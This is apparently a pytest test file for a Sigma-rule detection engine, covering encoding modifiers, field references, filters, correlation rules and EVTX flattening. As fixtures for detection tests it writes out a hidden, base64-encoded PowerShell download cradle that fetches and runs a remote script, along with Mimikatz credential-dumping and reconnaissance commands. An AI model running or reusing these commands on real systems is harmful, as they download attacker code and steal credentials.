"""The remaining modifiers of the specification's appendix, Sigma filters, correlation flags."""

from __future__ import annotations

import base64
import codecs
import textwrap
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from correlator.detection import RuleSet, flatten_evtx, rules_from_yaml

RULE = """\
title: {title}
id: {id}
logsource:
    product: zonewatch
detection:
{detection}
level: medium
"""


def one(detection: str, **kw: Any) -> RuleSet:
    text = RULE.format(
        title="Modifier rule",
        id="6a7c0000-0000-4000-8000-000000000001",
        detection=textwrap.indent(textwrap.dedent(detection).strip(), "    "),
    )
    rs = rules_from_yaml(text, pipeline="none", **kw)
    assert not rs.errors, rs.errors
    return rs


def fires(rs: RuleSet, event: dict[str, Any]) -> bool:
    return bool(rs.match(event))


class TestEncodings:
    def test_base64_matches_the_encoded_value(self) -> None:
        rs = one("sel:\n  cmd|base64|contains: 'http://evil'\ncondition: sel")
        encoded = base64.b64encode(b"http://evil").decode()
        assert fires(rs, {"cmd": f"powershell -enc {encoded}"})
        assert not fires(rs, {"cmd": "http://evil"})

    @pytest.mark.parametrize("prefix", [b"", b"x", b"xy"])
    def test_base64offset_matches_any_alignment(self, prefix: bytes) -> None:
        rs = one("sel:\n  cmd|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel")
        encoded = base64.b64encode(prefix + b"Invoke-Mimikatz -Dump").decode()
        assert fires(rs, {"cmd": encoded})

    @pytest.mark.parametrize(
        ("modifier", "encoding"),
        [
            ("wide", "utf-16-le"),
            ("utf16le", "utf-16-le"),
            ("utf16be", "utf-16-be"),
            ("utf16", "utf-16"),
        ],
    )
    def test_utf16_variants_under_base64(self, modifier: str, encoding: str) -> None:
        rs = one(f"sel:\n  cmd|{modifier}|base64offset|contains: 'whoami'\ncondition: sel")
        raw = "whoami /all".encode(encoding)
        assert fires(rs, {"cmd": base64.b64encode(raw).decode()})
        assert not fires(rs, {"cmd": base64.b64encode(b"whoami /all").decode()})

    def test_windash_expands_dash_characters(self) -> None:
        rs = one("sel:\n  cmd|windash|contains: ' -exec '\ncondition: sel")
        for dash in ("-", "/", "\u2013", "\u2014", "\u2015"):
            assert fires(rs, {"cmd": f"psexec {dash}exec cmd"}), dash
        assert not fires(rs, {"cmd": "psexec +exec cmd"})


def encoded_rule(field: str, modifiers: str, value: str) -> RuleSet:
    """A rule on ``field|modifiers: value``, the value written as YAML does
    (any text, quotes and all)."""
    detection = yaml.safe_dump(
        {"sel": {f"{field}|{modifiers}": value}, "condition": "sel"}, allow_unicode=True
    )
    return one(detection)


# A download cradle as an attacker types it (Microsoft's about_PowerShell_exe:
# -EncodedCommand takes the base64 of the command's UTF-16LE bytes).
SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"
JAPANESE_SCRIPT = "Write-Host 'パスワードを変更しました'; Get-ChildItem -Path D:/住民税/2026"
UTF16 = {
    "wide": lambda text: text.encode("utf-16-le"),
    "utf16le": lambda text: text.encode("utf-16-le"),
    "utf16be": lambda text: text.encode("utf-16-be"),
    "utf16": lambda text: codecs.BOM_UTF16_LE + text.encode("utf-16-le"),
}


def command_line(blob: bytes) -> dict[str, Any]:
    encoded = base64.b64encode(blob).decode()
    return {"process": {"command_line": f"powershell.exe -NoP -W Hidden -EncodedCommand {encoded}"}}


class TestUTF16UnderBase64:
    """``utf16``, ``utf16le``/``wide``, ``utf16be`` before ``base64`` and
    ``base64offset`` match what Windows programs write (modifiers.py)."""

    def test_utf16_base64_matches_a_blob_with_its_byte_order_mark(self) -> None:
        # pySigma 1.5 encoded the BOM as UTF-8 (EF BB BF): this never matched.
        blob = codecs.BOM_UTF16_LE + SCRIPT.encode("utf-16-le")
        assert blob[:2] == b"\xff\xfe"
        rs = encoded_rule("process.command_line", "utf16|base64|contains", SCRIPT)
        assert fires(rs, command_line(blob))
        # the same command without a BOM is not what `utf16` describes
        assert not fires(rs, command_line(SCRIPT.encode("utf-16-le")))
        assert not fires(rs, command_line(codecs.BOM_UTF8 + SCRIPT.encode("utf-16-le")))

    def test_utf16_base64_equals_the_whole_blob(self) -> None:
        blob = base64.b64encode(codecs.BOM_UTF16_LE + "whoami /all".encode("utf-16-le")).decode()
        rs = encoded_rule("powershell.encoded", "utf16|base64", "whoami /all")
        assert fires(rs, {"powershell": {"encoded": blob}})
        assert not fires(rs, {"powershell": {"encoded": blob[:-4]}})

    @pytest.mark.parametrize("modifier", sorted(UTF16))
    @pytest.mark.parametrize("script", [SCRIPT, JAPANESE_SCRIPT], ids=["ascii", "japanese"])
    def test_base64_of_the_whole_command(self, modifier: str, script: str) -> None:
        rs = encoded_rule("process.command_line", f"{modifier}|base64|contains", script)
        assert fires(rs, command_line(UTF16[modifier](script)))
        blobs = {encode(script) for encode in UTF16.values()} | {script.encode("utf-8")}
        for other in blobs - {UTF16[modifier](script)}:
            assert not fires(rs, command_line(other))

    @pytest.mark.parametrize("modifier", sorted(UTF16))
    @pytest.mark.parametrize(
        ("script", "word"),
        [(SCRIPT, "DownloadString"), (JAPANESE_SCRIPT, "パスワード")],
        ids=["ascii", "japanese"],
    )
    @pytest.mark.parametrize("prefix", ["", "$a=1;", "$ab=1;"])
    def test_base64offset_finds_a_word_at_any_alignment(
        self, modifier: str, script: str, word: str, prefix: str
    ) -> None:
        rs = encoded_rule("process.command_line", f"{modifier}|base64offset|contains", word)
        encode = UTF16[modifier]
        assert fires(rs, command_line(encode(prefix + script)))
        assert not fires(rs, command_line((prefix + script).encode("utf-8")))
        assert not fires(rs, command_line(encode(prefix + script.replace(word, "x"))))

    @settings(max_examples=150, deadline=None)
    @given(
        word=st.text(
            st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="*?\\"),
            min_size=2,
            max_size=12,
        ),
        before=st.text(max_size=7),
        after=st.text(max_size=5),
        modifier=st.sampled_from(sorted(UTF16)),
    )
    def test_any_text_is_found_in_any_utf16_blob(
        self, word: str, before: str, after: str, modifier: str
    ) -> None:
        # a whole blob: the BOM (utf16) is at its start, not before the word
        blob = UTF16[modifier](before + word + after)
        rs = encoded_rule("cmd", f"{modifier}|base64offset|contains", word)
        assert fires(rs, {"cmd": base64.b64encode(blob).decode()}), blob

    def test_wide_without_base64_keeps_the_text_form(self) -> None:
        rs = encoded_rule("cmd", "wide|contains", "cmd")
        assert fires(rs, {"cmd": "x" + "cmd".encode("utf-16-le").decode("latin-1")})
        text = RULE.format(
            title="Wide non-ASCII text",
            id="6a7c0000-0000-4000-8000-000000000003",
            detection="    sel:\n        cmd|wide|contains: 'パスワード'\n    condition: sel",
        )
        (err,) = rules_from_yaml(text, pipeline="none").errors
        assert "ascii" in str(err)

    def test_rules_check_sees_the_modifiers_by_their_names(self) -> None:
        from sigma.rule import SigmaRule

        rs = encoded_rule("cmd", "utf16|base64offset|contains", "whoami")
        (rule,) = rs.detections
        modifiers = SigmaRule.from_yaml(rule.text).to_dict()["detection"]["sel"]
        assert list(modifiers) == ["cmd|utf16|base64offset|contains"]


class TestOtherModifiers:
    def test_neq(self) -> None:
        rs = one("sel:\n  event.action: login\n  user.name|neq: admin\ncondition: sel")
        assert fires(rs, {"event": {"action": "login"}, "user": {"name": "tanaka"}})
        assert not fires(rs, {"event": {"action": "login"}, "user": {"name": "ADMIN"}})

    def test_fieldref(self) -> None:
        rs = one("sel:\n  source.user.name|fieldref: destination.user.name\ncondition: sel")
        assert fires(
            rs,
            {"source": {"user": {"name": "Tanaka"}}, "destination": {"user": {"name": "tanaka"}}},
        )
        assert not fires(
            rs,
            {"source": {"user": {"name": "tanaka"}}, "destination": {"user": {"name": "suzuki"}}},
        )
        assert not fires(rs, {"source": {"user": {"name": "tanaka"}}})

    def test_fieldref_with_neq(self) -> None:
        rs = one("sel:\n  source.user.name|fieldref|neq: destination.user.name\ncondition: sel")
        assert fires(
            rs, {"source": {"user": {"name": "a"}}, "destination": {"user": {"name": "b"}}}
        )
        assert not fires(
            rs, {"source": {"user": {"name": "a"}}, "destination": {"user": {"name": "a"}}}
        )

    @pytest.mark.parametrize(
        ("modifier", "number", "expected"),
        [
            ("minute", 30, True),
            ("hour", 18, True),
            ("hour", 9, False),
            ("day", 1, True),
            ("week", 14, True),
            ("month", 4, True),
            ("year", 2025, True),
            ("year", 2024, False),
        ],
    )
    def test_time_parts(self, modifier: str, number: int, expected: bool) -> None:
        rs = one(f"sel:\n  '@timestamp|{modifier}': {number}\ncondition: sel")
        assert fires(rs, {"@timestamp": "2025-04-01T18:30:00Z"}) is expected

    def test_time_part_of_non_dates_never_matches(self) -> None:
        rs = one("sel:\n  '@timestamp|hour': 18\ncondition: sel")
        assert not fires(rs, {"@timestamp": "eighteen"})

    def test_expand_with_placeholders(self) -> None:
        detection = "sel:\n  source.ip|expand: '%admin_hosts%'\ncondition: sel"
        rs = one(detection, placeholders={"admin_hosts": ["10.0.0.5", "10.0.0.6"]})
        assert fires(rs, {"source": {"ip": "10.0.0.6"}})
        assert not fires(rs, {"source": {"ip": "10.0.0.7"}})

    def test_expand_without_placeholder_is_a_located_error(self) -> None:
        text = RULE.format(
            title="Needs placeholder",
            id="6a7c0000-0000-4000-8000-000000000002",
            detection="    sel:\n        source.ip|expand: '%admin_hosts%'\n    condition: sel",
        )
        rs = rules_from_yaml(text, pipeline="none", path="rules/ph.yml")
        (err,) = rs.errors
        assert (err.path, err.line) == ("rules/ph.yml", 7)
        assert "admin_hosts" in str(err)


FILTERED = """\
title: Curl from core
id: 7b000000-0000-4000-8000-000000000001
name: curl_from_core
logsource:
    category: proxy
    product: zonewatch
detection:
    sel:
        user_agent.original|startswith: curl
    condition: sel
level: high
---
title: Known automation host
filter:
    rules:
        - curl_from_core
    selection:
        source.ip: 10.10.9.9
    condition: not selection
logsource:
    category: proxy
    product: zonewatch
"""


def test_sigma_filter_excludes_events_from_named_rules() -> None:
    rs = rules_from_yaml(FILTERED, pipeline="none")
    assert rs.errors == []
    curl = {"user_agent": {"original": "curl/8"}, "source": {"ip": "10.10.3.4"}}
    assert [r.name for r in rs.match(curl)] == ["curl_from_core"]
    assert rs.match({**curl, "source": {"ip": "10.10.9.9"}}) == []
    assert rs.rule("curl_from_core") is rs.detections[0]


CORRELATED = """\
title: Failed VDI login
id: 8c000000-0000-4000-8000-000000000001
name: vdi_login_failed
logsource:
    product: zonewatch
    service: vdi
detection:
    sel:
        event.action: login
        event.outcome: failure
    condition: sel
---
title: Lone blocked download
id: 8c000000-0000-4000-8000-000000000002
logsource:
    product: zonewatch
    service: gateway
detection:
    sel:
        event.action: blocked
    condition: sel
---
title: Many failed VDI logins
correlation:
    type: event_count
    rules:
        - vdi_login_failed
    group-by:
        - user.name
    timespan: 5m
    condition:
        gte: 5
level: high
"""


def test_correlation_rules_are_handed_over_and_referenced_rules_do_not_generate() -> None:
    rs = rules_from_yaml(CORRELATED, pipeline="none")
    assert rs.errors == []
    (corr,) = rs.correlations
    assert corr.title == "Many failed VDI logins"
    failed = rs.rule("vdi_login_failed")
    assert failed is not None and failed.correlation_only
    assert failed.correlated_by and not failed.generate
    assert rs.rule("8c000000-0000-4000-8000-000000000002").generate  # type: ignore[union-attr]
    event = {"event": {"dataset": "vdi", "action": "login", "outcome": "failure"}}
    assert rs.match(event) == [failed]  # still matched, for the correlation engine


def test_correlation_with_unknown_rule_is_a_located_error() -> None:
    text = CORRELATED.replace("- vdi_login_failed", "- no_such_rule")
    rs = rules_from_yaml(text, pipeline="none", path="rules/corr.yml")
    assert rs.correlations == []
    (err,) = rs.errors
    assert err.path == "rules/corr.yml" and "no_such_rule" in str(err)
    assert len(rs.detections) == 2


def test_evtx_flattening() -> None:
    doc = {
        "Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}},
                "EventID": 4688,
                "TimeCreated": {"#attributes": {"SystemTime": "2025-04-01T09:30:00Z"}},
                "Channel": "Security",
                "Security": {"#attributes": {"UserID": "S-1-5-18"}},
                "Level": {"#text": "4", "#attributes": {"Foo": "x"}},
                "Computer": "pc01",
            },
            "EventData": {
                "Data": [
                    {"#attributes": {"Name": "NewProcessName"}, "#text": "C:\\w\\cmd.exe"},
                    {"#attributes": {"Name": "Computer"}, "#text": "from-data"},
                    {"#text": "unnamed"},
                ],
                "Sub Name": "spaces go",
            },
        }
    }
    flat = flatten_evtx(doc)
    assert flat["EventID"] == 4688
    assert flat["Provider_Name"] == "Microsoft-Windows-Security-Auditing"
    assert flat["TimeCreated_SystemTime"] == "2025-04-01T09:30:00Z"
    assert flat["Security_UserID"] == "S-1-5-18"
    assert flat["Level"] == "4" and flat["Level_Foo"] == "x"
    assert flat["NewProcessName"] == "C:\\w\\cmd.exe"
    assert flat["Computer"] == "from-data"  # event data wins over System
    assert flat["Data"] == ["unnamed"]
    assert flat["SubName"] == "spaces go"
    user_data = {
        "Event": {
            "System": {"EventID": 1102},
            "UserData": {"LogFileCleared": {"SubjectUserName": "bob"}},
        }
    }
    assert flatten_evtx(user_data) == {"EventID": 1102, "SubjectUserName": "bob"}
